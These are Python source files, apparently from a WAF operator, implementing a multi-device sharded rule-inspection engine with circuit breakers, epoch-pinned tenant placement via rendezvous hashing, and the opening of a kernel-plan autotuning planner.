def rp_budget_entries() -> int:
    """The rp-sharding threshold in int32 entries: WAF_MESH_RP_BUDGET,
    inheriting WAF_STRIDE_TABLE_BUDGET when unset — i.e. by default a
    group is sharded exactly when it is too big to stride-compose."""
    b = envcfg.get_int("WAF_MESH_RP_BUDGET")
    if b <= 0:
        from ..ops.packing import stride_budget

        b = stride_budget()
    return b


class RpGroupRunner:
    """One rp-sharded chain group: tables sliced 1/rp across a chip row.

    The matcher axis is padded to an rp multiple (pad rows never accept:
    accepts handling stays in the caller, which only compares real rows),
    each slice is placed on its owning device up front, and ``run`` feeds
    the shard_map lane scan (parallel/dispatch.sharded_lane_scan): every
    device scans all lanes against its resident slice and a per-lane psum
    recovers the owning device's final state.
    """

    def __init__(self, mesh: Mesh, pt) -> None:
        rp = int(mesh.shape["rp"])
        m_pad = -pt.m % rp
        tables = np.pad(pt.tables, ((0, m_pad), (0, 0), (0, 0)))
        classes = np.pad(pt.classes, ((0, m_pad), (0, 0)))
        starts = np.pad(pt.starts, (0, m_pad))
        self.m_local = tables.shape[0] // rp
        self.entries = int(tables.size)
        # resident placement: each device holds its 1/rp slice permanently
        # (the whole point — no per-dispatch table transfer)
        self.tables = jax.device_put(
            tables, NamedSharding(mesh, P("rp", None, None)))
        self.classes = jax.device_put(
            classes, NamedSharding(mesh, P("rp", None)))
        self.starts = jax.device_put(starts, NamedSharding(mesh, P("rp")))
        self._fn = sharded_lane_scan(mesh, "rp", self.m_local)

    def run(self, lm: np.ndarray, t_sym):
        """(lane_matcher [N], post-transform symbols [N, W]) -> final
        states [N] (async device array, same contract as the replicated
        lane scan)."""
        return self._fn(self.tables, self.classes, self.starts,
                        np.asarray(lm, dtype=np.int32), t_sym)


class RpShardContext:
    """Per-group rp-sharding policy, consumed by ``CombinedModel``.

    ``decide`` is called once per transform-chain group at table-build
    time with the prepared tables and the stride resolution the group
    would otherwise use. A group is sharded when its table footprint —
    the stride-composed entries if composition succeeded, else the base
    padded entries — exceeds the budget; everything else replicates
    (small tables are KBs, replication is free and keeps the scan local).
    Sharded groups scan at stride 1: stride composition multiplies the
    class alphabet, which is exactly the blowup that forced sharding.
    """

    def __init__(self, mesh: Mesh, budget_entries: int | None = None):
        if "rp" not in mesh.shape:
            raise ValueError("rp context needs a mesh with an 'rp' axis")
        self.mesh = mesh
        self.rp = int(mesh.shape["rp"])
        self.budget = (budget_entries if budget_entries is not None
                       else rp_budget_entries())
        self.sharded_groups = 0

    def decide(self, pt, stride, strided, scan_stride):
        """-> RpGroupRunner for oversized groups, None to replicate."""
        if self.rp <= 1 or pt.m == 0:
            return None
        entries = strided.entries if strided is not None \
            else pt.padded_entries
        if entries <= self.budget:
            return None
        self.sharded_groups += 1
        return RpGroupRunner(self.mesh, pt)


@dataclass
class _Chip:
    """One dp shard: a chip row's engine + breaker + serving counters."""

    index: int
    devices: tuple
    engine: MultiTenantEngine
    breaker: CircuitBreaker
    requests: int = 0
    batches: int = 0
    host_fallback_requests: int = 0

    def healthy(self) -> bool:
        # HALF_OPEN counts healthy: probes must flow for recovery, and
        # the breaker's exponential backoff bounds placement thrash
        return self.breaker.state != CircuitBreaker.OPEN


@dataclass
class _ShardStream:
    """A chip-pinned carried-state stream: placement epoch + chip index
    wrap the chip engine's StreamScan so a mid-stream reload or shard
    drain is detected (StaleStreamState) instead of silently resuming
    one request across incompatible tables."""

    chip: int
    epoch: int
    scan: object

    @property
    def state_bytes(self) -> int:
        return self.scan.state_bytes


class _AggregateStats:
    """EngineStats-shaped adapter: the batcher/metrics read
    ``engine.stats.as_dict()`` without knowing which engine they hold."""

    def __init__(self, engine: "ShardedEngine") -> None:
        self._engine = engine

    def as_dict(self) -> dict:
        return self._engine.stats_dict()


class ShardedEngine:
    """N tenants over a dp×rp device mesh, single-chip API."""

    def __init__(self, n_devices: int | None = None,
                 rp: int | None = None,
                 mode: "str | None" = None,
                 placement: str | None = None,
                 rp_budget: int | None = None,
                 sync_dispatch: bool | None = None,
                 fault_injector=None,
                 scan_stride: "int | str | None" = None,
                 breaker_factory=None) -> None:
        if n_devices is None:
            n_devices = envcfg.get_int("WAF_MESH_DEVICES") or None
        if rp is None:
            rp = max(1, envcfg.get_int("WAF_MESH_RP"))
        if placement is None:
            placement = envcfg.get_str("WAF_MESH_PLACEMENT")
        self.mesh = make_mesh(n_devices, rp)
        self.rp = rp
        rows = mesh_rows(self.mesh)
        self.dp = len(rows)
        # one injector shared by every chip: the deterministic per-kind
        # draw sequence stays global, same as single-chip
        self.fault = (fault_injector if fault_injector is not None
                      else FaultInjector.from_env())
        # ONE shared persistent compile cache across every chip (not
        # per-chip: the chips trace identical programs, so a single
        # directory serves them all and the counters aggregate globally
        # — which is also why _SUM_FIELDS must NOT sum cache counters
        # per chip). Assigned onto each chip engine below, overriding
        # the per-engine from_env() instance.
        from ..runtime.compile_cache import CompileCache
        self._compile_cache = CompileCache.from_env(
            fault_injector=self.fault)
        if breaker_factory is None:
            breaker_factory = lambda: CircuitBreaker(  # noqa: E731
                failure_threshold=envcfg.get_int("WAF_BREAKER_THRESHOLD"),
                base_backoff_s=envcfg.get_float("WAF_BREAKER_BACKOFF_MS")
                / 1000.0)
        self._chips: list[_Chip] = []
        for j, row in enumerate(rows):
            row_mesh = Mesh(np.array(row).reshape(1, rp), ("dp", "rp"))
            rp_ctx = (RpShardContext(row_mesh, rp_budget)
                      if rp > 1 else None)
            eng = MultiTenantEngine(
                mode=mode, sync_dispatch=sync_dispatch,
                fault_injector=self.fault, scan_stride=scan_stride,
                rp_context=rp_ctx)
            # before any set_tenant/_swap builds a model on this chip
            eng.compile_cache = self._compile_cache
            self._chips.append(_Chip(index=j, devices=tuple(row),
                                     engine=eng,
                                     breaker=breaker_factory()))
        self._placer = Placer(self.dp, policy=placement)
        # host-side source of truth, independent of chip placement:
        # key -> (compiled, version, analyze) drives (re)installs, and
        # the TenantState map serves membership checks + inspect_host
        # even while no chip holds the tenant (whole-mesh degraded)
        self._compiled: dict[str, tuple] = {}
        self._states: dict[str, TenantState] = {}
        # (chip, key) pairs that lost ownership last epoch; removed at
        # the NEXT advance so batches pinned to the old table drain first
        self._retired: set[tuple[int, str]] = set()
        self._lock = threading.RLock()  # serializes epoch advances
        self._table: PlacementTable = self._placer.table
        self._pool = (ThreadPoolExecutor(max_workers=self.dp,
                                         thread_name_prefix="waf-shard")
                      if self.dp > 1 else None)
        self.stats = _AggregateStats(self)
        self._total_requests = 0
        self._total_batches = 0
        # per-tenant request counts: the 'load' placement policy's scores
        self._tenant_requests: dict[str, int] = {}
        # host-served requests for UNPLACED tenants (whole-mesh degraded);
        # per-chip fallbacks are counted on the chip
        self._unplaced_host_requests = 0
        # mesh-level compile telemetry: central SecLang compiles happen
        # here, chip-level installs/warmups accumulate on the chips
        self._recompile_total: dict = {}
        self._compile_seconds_total = 0.0
        self._trace_recorder = None
        self._profiler = None
        # live kernel plan (autotune.plan.Plan or None = env defaults),
        # mirrored onto every chip engine by install_plan under one
        # placement epoch so chips never mix plans
        self._plan = None
        # per-chip drain summary once drain() ran (drain is idempotent)
        self._drain_summary: "list[dict] | None" = None

    # -- flight recorder ---------------------------------------------------
    @property
    def trace_recorder(self):
        return self._trace_recorder

    @trace_recorder.setter
    def trace_recorder(self, recorder) -> None:
        """Propagate to every chip engine so chip-local installs and
        warmups record their own recompile events."""
        self._trace_recorder = recorder
        for c in self._chips:
            c.engine.trace_recorder = recorder

    # -- per-program profiler ----------------------------------------------
    @property
    def profiler(self):
        return self._profiler

    @profiler.setter
    def profiler(self, profiler) -> None:
        """One SHARED ProgramProfiler across every chip engine: each
        chip's timed collects land in the same aggregates (the per-chip
        merge), and each chip draws its own head-sample sequence from
        the shared counter so the mesh-wide sampled fraction matches
        the single-chip discipline."""
        self._profiler = profiler
        for c in self._chips:
            c.engine.profiler = profiler

    # -- persistent compile cache ------------------------------------------
    @property
    def compile_cache(self):
        return self._compile_cache

    @compile_cache.setter
    def compile_cache(self, cache) -> None:
        """One SHARED CompileCache across every chip engine (same
        discipline as the profiler): entries are immutable files keyed
        by value-independent digests, so chips racing on the directory
        and epoch swaps mid-write are safe — a partially written entry
        is never visible (atomic os.replace) and a losing racer just
        rewrites the same bytes. Takes effect at each chip's next model
        swap; tests may assign before the first set_tenant."""
        self._compile_cache = cache
        for c in self._chips:
            c.engine.compile_cache = cache

    # -- kernel plan (autotune/applier.py drives this) -----------------------
    @property
    def plan(self):
        return self._plan

    def install_plan(self, plan, candidate=None) -> bool:
        """Make ``plan`` the live kernel plan on EVERY chip under one
        placement-epoch advance, so no two chips ever serve different
        plans past the swap. Chip models are chip-local, so a
        single-engine ``candidate`` is not installable here (ignored);
        each chip rebuilds inline on its own device through the shared
        compile cache — which a prior pre-trace may already have
        warmed. Streams pinned to the previous epoch go stale exactly
        like a tenant hot reload."""
        with self._lock:
            self._plan = plan
            for c in self._chips:
                self._on_chip(c, c.engine.install_plan, plan)
            self._advance_epoch()
        return True

    # -- tenant lifecycle (hot reload) ------------------------------------
    @property
    def tenants(self) -> dict[str, TenantState]:
        return self._states

    def set_tenant(self, key: str, ruleset_text: str | None = None,
                   compiled=None, version: str = "",
                   warmup: bool = False, analyze: bool = False) -> None:
        """Compile once centrally, then advance the placement epoch; the
        owning chip's engine performs its own atomic table swap."""
        from ..compiler.compile import compile_ruleset

        t_compile0 = time.monotonic()
        reason = "artifact"
        if compiled is None:
            if ruleset_text is None:
                raise ValueError("need ruleset_text or compiled")
            if self.fault is not None:
                self.fault.check("compile-failure")
            compiled = compile_ruleset(ruleset_text)
            reason = "ruleset_text"
        state = TenantState.build(key, compiled, version)
        self._recompile_total[reason] = \
            self._recompile_total.get(reason, 0) + 1
        self._compile_seconds_total += time.monotonic() - t_compile0
        with self._lock:
            self._compiled[key] = (compiled, version, analyze)
            states = dict(self._states)
            states[key] = state
            self._states = states  # atomic publish, same as _swap
            self._advance_epoch()
            owner = self._table.shard_of(key)
        if warmup and owner is not None:
            chip = self._chips[owner]
            threading.Thread(
                target=lambda: self._on_chip(chip, chip.engine.warmup),
                name=f"waf-warmup-{key}", daemon=True).start()

    def remove_tenant(self, key: str) -> None:
        with self._lock:
            self._compiled.pop(key, None)
            states = dict(self._states)
            states.pop(key, None)
            self._states = states
            self._advance_epoch()

    def tenant_version(self, key: str) -> str | None:
        st = self._states.get(key)
        return st.version if st else None

    def warmup(self, lengths: tuple[int, ...] = (128, 256),
               lanes: tuple[int, ...] | None = None,
               block: bool = True) -> int:
        kw = {} if lanes is None else {"lanes": lanes}
        return sum(self._on_chip(c, c.engine.warmup, lengths,
                                 block=block, **kw)
                   for c in self._chips)

    # -- placement epochs --------------------------------------------------
    def _healthy(self) -> list[int]:
        return [c.index for c in self._chips if c.healthy()]

    def _loads(self) -> dict[str, float] | None:
        if self._placer.policy != "load":
            return None
        return {k: float(self._tenant_requests.get(k, 0))
                for k in self._states}

    def _advance_epoch(self) -> None:
        """Build + publish the next placement table (lock held).

        Install-before-retire: a moved tenant lands on its new chip
        first, and the old chip keeps the tables for one more epoch so
        in-flight batches pinned to the previous table never miss."""
        t0 = time.monotonic()
        table = self._placer.advance(
            list(self._compiled), self._healthy(), self._loads())
        for key, shard in table.assignment.items():
            eng = self._chips[shard].engine
            compiled, version, analyze = self._compiled[key]
            if key not in eng.tenants or eng.tenant_version(key) != version:
                self._on_chip(self._chips[shard], eng.set_tenant, key,
                              compiled=compiled, version=version,
                              analyze=analyze)
        stale = {
            (c.index, key)
            for c in self._chips for key in c.engine.tenants
            if table.assignment.get(key) != c.index
        }
        for j, key in self._retired & stale:
            self._chips[j].engine.remove_tenant(key)
        self._retired = stale - self._retired
        rec = self._trace_recorder
        if rec is not None:
            # event spans the table build/install work; recorded before
            # the publish so the publish stays the final mutation (the
            # epoch-publish-not-last audit invariant)
            rec.record_event(
                "epoch", "*",
                [("epoch", t0, time.monotonic(),
                  {"epoch": table.epoch})],
                epoch=table.epoch,
                healthy=len(table.healthy),
                tenants=len(table.assignment))
        self._table = table  # atomic publish: readers snapshot once

    def _maybe_drain(self) -> PlacementTable:
        """Entry-point health check: when a breaker tripped (or
        recovered) since the live table was built, advance the epoch so
        the affected tenants drain to the current healthy set."""
        table = self._table
        healthy = tuple(sorted(self._healthy()))
        if healthy != table.healthy:
            with self._lock:
                if tuple(sorted(self._healthy())) != self._table.healthy:
                    self._advance_epoch()
            table = self._table
        return table

    # -- inspection --------------------------------------------------------
    def _on_chip(self, chip: _Chip, fn, *args, **kwargs):
        """Run fn with the chip row's lead device as the jax default, so
        the chip's replicated (non-rp) dispatches land on ITS device.
        rp-sharded groups carry their own explicit row mesh."""
        with jax.default_device(chip.devices[0]):
            return fn(*args, **kwargs)

    def _host_verdicts(self, items, ctxs=None):
        verdicts = []
        prof = self._profiler
        if prof is not None and not prof.enabled:
            prof = None  # zero-overhead contract: no timing when off
        for j, (key, req, resp) in enumerate(items):
            ctx = ctxs[j] if ctxs is not None else None
            timed = ctx is not None or prof is not None
            t0 = time.monotonic() if timed else 0.0
            try:
                verdicts.append(self.inspect_host(key, req, resp))
            finally:
                if timed:
                    t1 = time.monotonic()
                    if ctx is not None:
                        ctx.span("host_fallback", t0, t1)
                    if prof is not None:
                        # fallback work is attributed to the `host`
                        # pseudo-program, never dropped from the profile
                        prof.record_host(key, t1 - t0)
        return verdicts

    def _chip_batch(self, chip: _Chip, items, ctxs=None):
        """One chip's slice of the batch: device when the breaker admits,
        bit-exact host fallback otherwise (and on failure). ``ctxs``
        (parallel to items) forwards flight-recorder contexts into the
        chip engine; shard slices are disjoint, so no two chip threads
        ever touch the same context."""
        chip.batches += 1
        chip.requests += len(items)
        if not chip.breaker.allow():
            chip.host_fallback_requests += len(items)
            return self._host_verdicts(items, ctxs)
        try:
            verdicts = self._on_chip(chip, chip.engine.inspect_batch,
                                     items, trace_ctxs=ctxs)
        except KeyError:
            # placement race: the tenant moved off this chip between the
            # table snapshot and the dispatch (or its retirement landed
            # early). Not a device fault — serve host, don't charge the
            # breaker; the next epoch routes correctly.
            chip.host_fallback_requests += len(items)
            return self._host_verdicts(items, ctxs)
        except Exception:
            chip.breaker.record_failure()
            chip.host_fallback_requests += len(items)
            return self._host_verdicts(items, ctxs)
        chip.breaker.record_success()
        return verdicts

    def inspect_batch(self, items, trace_ctxs=None):
        """items[i] = (tenant_key, request, response|None), any tenant
        mix; routed per the epoch-pinned placement snapshot and fanned
        out chip-concurrently. ``trace_ctxs`` (parallel to items) is
        partitioned with the shard routing — each traced item gets a
        ``chip_dispatch`` span around its chip's slice plus the chip
        engine's inner device/verdict spans."""
        for key, _req, _resp in items:
            if key not in self._states:
                raise KeyError(f"unknown tenant {key!r}")
        table = self._maybe_drain()
        self._total_requests += len(items)
        self._total_batches += 1
        by_shard: dict[int | None, list[int]] = {}
        for i, (key, _req, _resp) in enumerate(items):
            self._tenant_requests[key] = \
                self._tenant_requests.get(key, 0) + 1
            by_shard.setdefault(table.shard_of(key), []).append(i)
        out: list = [None] * len(items)

        def ctx_of(i):
            return trace_ctxs[i] if trace_ctxs is not None else None

        host_idx = by_shard.pop(None, [])
        if host_idx:
            # unplaced tenants: the whole-mesh-degraded state (empty
            # healthy set) — the reference host path IS the engine
            self._unplaced_host_requests += len(host_idx)
            for i, v in zip(host_idx,
                            self._host_verdicts(
                                [items[i] for i in host_idx],
                                [ctx_of(i) for i in host_idx])):
                out[i] = v

        def run(shard, idxs):
            sub = [items[i] for i in idxs]
            sub_ctxs = [ctx_of(i) for i in idxs]
            traced = [c for c in sub_ctxs if c is not None]
            t0 = time.monotonic() if traced else 0.0
            verdicts = self._chip_batch(self._chips[shard], sub,
                                        sub_ctxs if traced else None)
            if traced:
                t1 = time.monotonic()
                for c in traced:
                    # parent span: deliberately overlaps the chip
                    # engine's inner spans (it is their enclosing scope)
                    c.span("chip_dispatch", t0, t1, chip=shard,
                           lanes=len(sub))
            return idxs, verdicts

        if self._pool is not None and len(by_shard) > 1:
            futs = [self._pool.submit(run, shard, idxs)
                    for shard, idxs in by_shard.items()]
            results = [f.result() for f in futs]
        else:
            results = [run(shard, idxs)
                       for shard, idxs in by_shard.items()]
        for idxs, verdicts in results:
            for i, v in zip(idxs, verdicts):
                out[i] = v
        return out

    def inspect(self, key: str, request, response=None, trace_ctx=None):
        return self.inspect_batch(
            [(key, request, response)],
            trace_ctxs=None if trace_ctx is None else [trace_ctx])[0]

    def inspect_host(self, key: str, request, response=None):
        """Device-free exact path — identical semantics to
        MultiTenantEngine.inspect_host, served from the host-side tenant
        map so it works even when no chip holds the tenant."""
        st = self._states.get(key)
        if st is None:
            raise KeyError(f"unknown tenant {key!r}")
        return st.waf.inspect(request, response)

    # -- streaming (epoch-pinned carried chunk state) ----------------------
    def stream_epoch(self) -> int:
        return self._table.epoch

    def stream_open(self, key: str):
        """Open a carried-state chunk scan pinned to the CURRENT
        placement epoch and owning chip. None = buffer-only stream
        (unplaced tenant / no streamable lanes)."""
        if key not in self._states:
            raise KeyError(f"unknown tenant {key!r}")
        table = self._maybe_drain()
        shard = table.shard_of(key)
        if shard is None:
            return None  # whole-mesh degraded: host path at stream end
        chip = self._chips[shard]
        scan = self._on_chip(chip, chip.engine.stream_open, key)
        if scan is None:
            return None
        return _ShardStream(chip=shard, epoch=table.epoch, scan=scan)

    def stream_scan(self, scan, data: bytes) -> set[int]:
        """Advance a stream's carried lanes on its pinned chip. A
        placement-epoch advance (reload, drain, shard loss) mid-stream
        raises StaleStreamState: one request's chunks must never split
        across incompatible table sets, so the caller drops the carry
        and buffers — the stream-end verdict is unaffected."""
        if scan is None:
            return set()
        if self._table.epoch != scan.epoch:
            raise StaleStreamState(
                f"placement epoch advanced mid-stream "
                f"({scan.epoch} -> {self._table.epoch})")
        chip = self._chips[scan.chip]
        return self._on_chip(chip, chip.engine.stream_scan, scan.scan,
                             data)

    def export_stream_state(self, scan) -> "dict | None":
        """Serialize a chip-pinned carried scan for a successor mesh
        (see MultiTenantEngine.export_stream_state). Stamped with the
        PLACEMENT epoch; the inner record carries the owning chip
        engine's own reload-epoch stamp, so both pins are re-proved at
        import."""
        if scan is None:
            return None
        chip = self._chips[scan.chip]
        inner = self._on_chip(chip, chip.engine.export_stream_state,
                              scan.scan)
        return {"placement_epoch": scan.epoch, "chip": scan.chip,
                "inner": inner}

    def import_stream_state(self, key: str, state: "dict | None"):
        """Rebuild an exported carry onto the CURRENT placement.
        Refuses (StaleStreamState) when the placement epoch moved; the
        tenant's current owning chip — which may differ from the
        exporting chip, states are host-side vectors — rebuilds the
        inner carry against its own tables, re-checking the inner
        reload-epoch/version/layout stamps."""
        if state is None:
            return None
        if key not in self._states:
            raise KeyError(f"unknown tenant {key!r}")
        table = self._maybe_drain()
        if state.get("placement_epoch") != table.epoch:
            raise StaleStreamState(
                f"import refused: exported at placement epoch "
                f"{state.get('placement_epoch')}, mesh is at "
                f"{table.epoch}")
        shard = table.shard_of(key)
        if shard is None:
            raise StaleStreamState(
                "import refused: tenant unplaced on this mesh")
        chip = self._chips[shard]
        scan = self._on_chip(chip, chip.engine.import_stream_state, key,
                             state.get("inner"))
        if scan is None:
            return None
        return _ShardStream(chip=shard, epoch=table.epoch, scan=scan)

    # -- lifecycle ---------------------------------------------------------
    def drain(self) -> list[dict]:
        """Per-chip drain sequencing: chips retire strictly one at a
        time, in index order — chip j's tenants are removed (its tables
        freed) before chip j+1 starts, so peak host memory during
        teardown is one chip's working set, never the mesh's. Afterwards
        the placement is cleared under one epoch advance: a straggler
        batch that raced admission routes unplaced and is served by the
        exact host path, so nothing admitted is ever lost to drain.
        Idempotent; returns the per-chip retirement summary."""
        with self._lock:
            if self._drain_summary is not None:
                return self._drain_summary
            self._drain_summary = summary = []
        for c in self._chips:
            t0 = time.monotonic()
            keys = sorted(c.engine.tenants)
            for key in keys:
                self._on_chip(c, c.engine.remove_tenant, key)
            summary.append({"chip": c.index,
                            "tenants_retired": len(keys),
                            "seconds": time.monotonic() - t0})
        with self._lock:
            # retire the placement itself: one final epoch advance over
            # an empty tenant set publishes an all-unplaced table
            self._compiled.clear()
            self._retired.clear()
            self._advance_epoch()
        return summary

    # -- stats -------------------------------------------------------------
    _SUM_FIELDS = (
        "requests", "batches", "device_lanes", "device_dispatches",
        "dispatch_rounds", "speculative_waves", "speculative_waves_used",
        "speculative_lanes_wasted", "gated_rules_skipped", "screen_lanes",
        "lanes_screened_out", "fast_path_allows",
        "fast_path_residual_aborts", "screen_dispatches",
        "screen_accepted", "scan_steps", "scan_steps_stride1",
        "compose_rounds", "base_table_entries", "stride_table_entries",
        "table_padding_entries", "rp_sharded_groups", "lanes_padded",
        "compile_seconds_total", "trace_cache_hits", "trace_cache_misses",
    )

    def stats_dict(self) -> dict:
        """EngineStats-compatible aggregate plus the mesh-level view the
        per-chip metrics (extproc/metrics.py) render: ``chips`` rows,
        tenant placement, and placement-epoch counters."""
        chips = [c.engine.stats.as_dict() for c in self._chips]
        out: dict = {k: sum(d[k] for d in chips)
                     for k in self._SUM_FIELDS}
        # chip engines each count their slice of a fanned-out batch; the
        # mesh-level request/batch totals are the serving truth
        out["requests"] = self._total_requests
        out["batches"] = self._total_batches
        out["issue_inflight_peak"] = max(
            (d["issue_inflight_peak"] for d in chips), default=0)
        out["reload_epoch"] = max(
            (d["reload_epoch"] for d in chips), default=0)
        sg: dict = {}
        for d in chips:
            for stride, n in d["stride_groups"].items():
                sg[stride] = sg.get(stride, 0) + n
        out["stride_groups"] = sg
        # zero-filled so unseen modes (e.g. bass_compose before a chip
        # first resolves it) stay present across the mesh aggregate
        mg: dict = {**{m: 0 for m in SCAN_MODES}, "bass_screen": 0}
        for d in chips:
            for m, n in d.get("mode_groups", {}).items():
                mg[m] = mg.get(m, 0) + n
        out["mode_groups"] = mg
        # compile telemetry: chip-level installs/warmups + the mesh's own
        # central SecLang compiles
        rc = dict(self._recompile_total)
        for d in chips:
            for reason, n in d.get("recompile_total", {}).items():
                rc[reason] = rc.get(reason, 0) + n
        out["recompile_total"] = rc
        out["compile_seconds_total"] += self._compile_seconds_total
        out["lint_diagnostics"] = {
            k: v for d in chips for k, v in d["lint_diagnostics"].items()}
        total = max(1, self._total_requests)
        table = self._table
        out["mesh"] = {"devices": self.dp * self.rp,
                       "dp": self.dp, "rp": self.rp}
        out["placement_epoch"] = table.epoch
        out["rebalance_total"] = self._placer.rebalance_total
        out["placement_moves_total"] = self._placer.moves_total
        out["host_fallback_requests"] = self._unplaced_host_requests + sum(
            c.host_fallback_requests for c in self._chips)
        out["tenant_placement"] = dict(table.assignment)
        out["chips"] = [
            {
                "chip": c.index,
                "devices": len(c.devices),
                "requests": c.requests,
                "batches": c.batches,
                "utilization": c.requests / total,
                "breaker": c.breaker.snapshot(),
                "tenants": sorted(c.engine.tenants),
                "host_fallback_requests": c.host_fallback_requests,
            }
            for c in self._chips
        ]
        return out
