"""Multi-device sharding strategies and the scale-out serving engine.

The reference scales by replicating gateways (data plane fan-out across
pods — reference: test/integration/multiple_gateways_test.go) and has no
collective communication (SURVEY.md §2). The trn equivalents:

- ``mesh``      — device mesh construction (dp × rp axes); the package's
                  ONLY jax.devices() call site (lint rule MESH001)
- ``compat``    — jax API version shims (shard_map location, pcast)
- ``dispatch``  — the sharded inspection step: requests data-parallel
                  over 'dp', matcher tables sharded over 'rp' (each core
                  holds a slice of the compiled automata), match-bit
                  assembly via the mesh's implicit all-gather
- ``sequence``  — distributed enumerative scan for long bodies: chunks
                  sharded over devices, per-chunk transition maps
                  composed with one tiny all_gather (the ring-attention
                  analog where the "KV" being rotated is an [S]-int
                  composition map)
- ``placement`` — tenant→dp-shard assignment (rendezvous hash / load),
                  epoch-pinned rebalancing
- ``sharded_engine`` — :class:`ShardedEngine`: the MultiTenantEngine
                  contract fanned across the dp×rp mesh, with per-chip
                  circuit breakers feeding the resilience ladder

All paths compile and execute identically on the virtual CPU mesh
(tests/conftest.py) and on real NeuronLink-connected cores — the XLA
collectives (all_gather, psum) lower to NeuronCore collective-comm.
"""

from .mesh import make_mesh  # noqa: F401
from .placement import Placer, PlacementTable  # noqa: F401
from .sharded_engine import (  # noqa: F401
    RpShardContext,
    ShardedEngine,
)
