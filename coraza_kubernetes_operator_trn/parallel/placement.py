"""Tenant → dp-shard placement with epoch-pinned rebalancing.

The placement problem is the WAF analog of serving-cell assignment: every
tenant's compiled automaton bank lives on exactly one dp shard (one chip
row of the mesh), and requests route to the owning shard. Two policies:

- ``hash`` — rendezvous (highest-random-weight) hashing over the healthy
  shard set. Deterministic in (tenant, shard set); removing a shard moves
  ONLY the tenants that lived on it (minimal disruption), adding one back
  moves only the tenants that rendezvous-prefer it.
- ``load`` — greedy least-loaded assignment using caller-supplied scores
  (e.g. observed per-tenant request counts): tenants sorted by descending
  load, each placed on the currently lightest healthy shard.

Placements are immutable snapshots (:class:`PlacementTable`) tagged with
an epoch. Rebalancing happens ONLY at epoch boundaries — tenant
install/remove (hot reload) or a shard health change — by building a new
table and swapping it atomically, the same pin-the-in-flight-batch
discipline the multitenant engine uses for table hot-swaps
(runtime/multitenant.MultiTenantEngine._swap): a batch that snapshotted
epoch N finishes routing against epoch N even while N+1 is live.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field


def _weight(tenant: str, shard: int) -> int:
    """Rendezvous weight: stable across processes and python hash seeds."""
    h = hashlib.blake2b(f"{tenant}\x00{shard}".encode(), digest_size=8)
    return int.from_bytes(h.digest(), "big")


def candidates(tenant: str, healthy: list[int]) -> list[int]:
    """The tenant's full rendezvous preference order over ``healthy``
    (descending weight). ``candidates(t, h)[0]`` is exactly the shard
    ``assign`` picks; the tail is the deterministic retry/hedge/failover
    ladder — the fleet router walks it instead of re-hashing, so a
    failed-over tenant lands where the NEXT epoch's table would place it
    anyway (pod-scope reuse of tenant→chip placement)."""
    return sorted(healthy, key=lambda s: _weight(tenant, s), reverse=True)


@dataclass(frozen=True)
class PlacementTable:
    """Immutable tenant→shard assignment at one epoch."""

    epoch: int
    assignment: dict[str, int] = field(default_factory=dict)
    healthy: tuple[int, ...] = ()

    def shard_of(self, tenant: str) -> int | None:
        return self.assignment.get(tenant)

    def tenants_on(self, shard: int) -> list[str]:
        return sorted(t for t, s in self.assignment.items() if s == shard)


def assign(tenants: list[str], healthy: list[int], policy: str = "hash",
           loads: dict[str, float] | None = None) -> dict[str, int]:
    """One placement round over the healthy shard set."""
    if not healthy:
        return {}
    if policy == "load":
        load_of = loads or {}
        shard_load = {s: 0.0 for s in healthy}
        out: dict[str, int] = {}
        # heaviest first, each onto the lightest shard; ties break on the
        # rendezvous weight so equal-load placements stay deterministic
        for t in sorted(tenants,
                        key=lambda t: (-load_of.get(t, 0.0), t)):
            s = min(healthy,
                    key=lambda s: (shard_load[s], -_weight(t, s)))
            out[t] = s
            shard_load[s] += load_of.get(t, 1.0)
        return out
    if policy != "hash":
        raise ValueError(f"unknown placement policy {policy!r}; "
                         "expected 'hash' or 'load'")
    return {t: max(healthy, key=lambda s: _weight(t, s)) for t in tenants}


class Placer:
    """Epoch-advancing placement state machine (not thread-safe by
    itself: the sharded engine serializes epoch advances under its
    reload lock and publishes tables atomically)."""

    def __init__(self, n_shards: int, policy: str = "hash") -> None:
        if n_shards < 1:
            raise ValueError("need at least one shard")
        assign([], list(range(n_shards)), policy)  # validate policy early
        self.n_shards = n_shards
        self.policy = policy
        self.rebalance_total = 0   # epoch advances that moved >= 1 tenant
        self.moves_total = 0       # tenant→shard moves across all epochs
        self.table = PlacementTable(
            epoch=0, assignment={},
            healthy=tuple(range(n_shards)))

    def advance(self, tenants: list[str], healthy: list[int] | None = None,
                loads: dict[str, float] | None = None) -> PlacementTable:
        """Build and publish the next epoch's table. ``healthy`` defaults
        to all shards; an empty healthy set yields an empty assignment
        (the whole-mesh-degraded state — callers fall back to host)."""
        if healthy is None:
            healthy = list(range(self.n_shards))
        new = assign(sorted(tenants), sorted(healthy), self.policy, loads)
        old = self.table.assignment
        moved = sum(1 for t, s in new.items() if old.get(t, s) != s)
        if moved:
            self.rebalance_total += 1
            self.moves_total += moved
        self.table = PlacementTable(
            epoch=self.table.epoch + 1, assignment=new,
            healthy=tuple(sorted(healthy)))
        return self.table
