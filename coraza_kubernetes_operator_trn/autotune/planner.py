"""Planner: score candidate kernel plans against observed traffic.

The objective is additive over groups and observed length points:

    cost(plan) = sum_g weight_g * sum_(len, n) n * proxy(pred) * unit_g

where ``pred`` is :func:`analysis.audit.cost.predict_program` for the
group's (mode, stride) under the plan at the shape bucket ``len`` packs
into under the plan's ladder, ``proxy`` folds the op counts into one
scalar (observer._proxy_units), and ``unit_g`` is the group's measured
seconds-per-proxy-unit calibration (GroupTraffic.unit_factor). Because
the objective is additive, each group's (mode, stride) is optimized
independently and only the plan-wide knobs (compose chunk, bucket
ladder) are enumerated — the search is tiny and fully deterministic, so
the same traffic always yields the same plan (no flapping from the
search itself).

Hysteresis lives here too: :meth:`Planner.propose` returns nothing
until the live plan has dwelt ``min_dwell_s`` (rollbacks reset the
clock) and the best candidate's predicted fractional win clears
``min_win``.

Safety: every derived bucket ladder ends at the default ladder's last
rung, so streams longer than it truncate exactly as they do today —
a plan can change padding and step counts, never truncation points
(that is what keeps candidate device bits identical; the applier's
differential enforces it).
"""

from __future__ import annotations

from .observer import TrafficModel, _proxy_units
from .plan import VALID_STRIDES, GroupPlan, Plan

# mirrors models.waf_model.LENGTH_BUCKETS (asserted by tests); kept as
# a literal so this module stays importable without jax
DEFAULT_BUCKETS = (128, 256, 512, 2048, 8192)

# plan-wide candidate values enumerated by the search (None = env/live)
CHUNK_CANDIDATES = (None, 8, 16, 32)
MAX_LADDER_RUNGS = 6
_LADDER_QUANTILES = (0.5, 0.9, 0.99)


